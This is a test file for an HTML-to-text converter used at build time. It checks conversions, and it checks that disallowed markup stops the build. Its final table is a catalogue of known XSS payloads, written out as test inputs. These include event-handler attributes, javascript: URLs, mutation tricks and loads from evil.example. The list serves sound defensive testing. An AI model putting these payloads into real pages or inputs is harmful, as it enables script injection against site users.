import { expect, test } from 'vitest'

import { BuildCheckError } from '#ingest/sources/errors.ts'
import { htmlToCodeText } from '#ingest/text/html-text.ts'

test.each([
  ['The <code>subgrid</code> value', 'The `subgrid` value'],
  ['Press <kbd>Esc</kbd>', 'Press `Esc`'],
  ['<code>&#x3C;dialog></code> &#38; more', '`<dialog>` & more'],
  ['written &amp;lt; once', 'written &lt; once'],
  ['See <a href="https://a.example/?x=1&amp;y=2">the <em>page</em></a>.', 'See the page.'],
  ['a literal ` backtick', 'a literal \uE000 backtick'],
  ['<code>`x`</code>', '`\uE000x\uE000`'],
  ['1 < 2 and 3 > 2', '1 < 2 and 3 > 2'],
  [' two\n lines ', 'two lines'],
])('the HTML %j is the text %j', (html, text) => {
  expect(htmlToCodeText(html, 'a')).toBe(text)
})

test.each([
  ['<b>bold</b>', '<b>'],
  ['<script>alert(1)</script>', '<script>'],
  ['<code onclick="x()">y</code>', '<code onclick="x()">'],
  ['<IMG src=x>', '<IMG src=x>'],
  ['<!-- x -->', '<!-- x -->'],
  ['<a href="javascript:alert(1)">x</a>', 'javascript:alert(1)'],
  ['<a href="http://a.example/">x</a>', 'http://a.example/'],
  ['&unheardof;', '&unheardof;'],
])('%j stops the build with the record and %j in the message', (html, culprit) => {
  const convert = () => htmlToCodeText(html, 'api.Thing')
  expect(convert).toThrow(BuildCheckError)
  expect(convert).toThrow('api.Thing')
  expect(convert).toThrow(culprit)
})

/** Ways to have something run, from lists of those who look for them: each is refused, or nothing but text. */
const payloads: readonly string[] = [
  ...[
    'img',
    'svg',
    'video',
    'audio',
    'body',
    'input',
    'details',
    'marquee',
    'object',
    'embed',
  ].flatMap((tag) => [
    `<${tag} src=x onerror=alert(1)>`,
    `<${tag}/onload=alert(1)>`,
    `<${tag.toUpperCase()} ONTOGGLE="alert(1)" open>`,
  ]),
  ...[
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    ' javascript:alert(1)',
    'java\tscript:alert(1)',
  ].flatMap((address) => [
    `<a href="${address}">x</a>`,
    `<a href='${address}'>x</a>`,
    `<a href=${address}>x</a>`,
  ]),
  ...[
    'data:text/html,<script>alert(1)</script>',
    'vbscript:x',
    '//evil.example',
    '/\\evil.example',
  ].map((address) => `<a href="${address}">x</a>`),
  '<script>alert(1)</script>',
  '<script src=//evil.example></script>',
  '<scr<script>ipt>alert(1)</script>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css"</style>',
  '<code style="background:url(javascript:alert(1))">x</code>',
  '<em onmouseover="alert(1)">x</em>',
  '<a href="https://a.example/" onclick="alert(1)">x</a>',
  '<a href="https://a.example/" target="_blank" ping="https://evil.example/">x</a>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
]

test.each(payloads)('the payload %j stops the build', (payload) => {
  expect(() => htmlToCodeText(`Text ${payload} text`, 'api.Thing')).toThrow(BuildCheckError)
})
